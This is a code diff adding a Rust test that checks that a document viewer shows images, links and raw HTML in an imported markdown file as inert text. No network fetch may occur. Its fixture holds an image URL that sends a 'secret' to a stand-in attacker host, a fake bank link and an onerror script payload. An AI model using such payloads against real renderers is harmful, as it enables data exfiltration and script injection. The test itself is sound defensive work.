@@ -98,6 +98,44 @@ fn search_answers_while_one_types_without_any_model() {
 }
 
 #[test]
+fn pictures_links_and_html_of_a_document_are_words() {
+    let laptop = Laptop::new();
+    laptop.write(
+        "papers/evil.md",
+        "# Offer\n\n![pixel](https://evil.example/steal.png?secret=1)\n\nSee [your bank](https://evil.example/login).\n\n\
+         <img src=\"https://evil.example/x\" onerror=\"alert(1)\">\n",
+    );
+    let papers = laptop.home().join("papers");
+    let mut window = OpenWindow::new([1180.0, 780.0], false, laptop);
+    window.click("Documents");
+    window.type_into("Path to import", papers.to_str().unwrap());
+    window.click("Import");
+    window.wait_idle();
+    window.click("Offer");
+    window.wait_idle();
+    for words in [
+        "[image: pixel]",
+        "your bank (https://evil.example/login)",
+        "<img src=",
+    ] {
+        assert!(window.shows(words), "{words}: {}", window.words());
+    }
+    let commands = &window.harness.output().platform_output.commands;
+    assert!(commands.is_empty(), "{commands:?}");
+    assert!(
+        !window
+            .harness
+            .ctx
+            .loaders()
+            .image
+            .lock()
+            .iter()
+            .any(|loader| loader.id().contains("http")),
+        "nothing that fetches is installed"
+    );
+}
+
+#[test]
 fn a_question_without_a_model_says_what_to_do() {
     let laptop = Laptop::new();
     laptop.write(
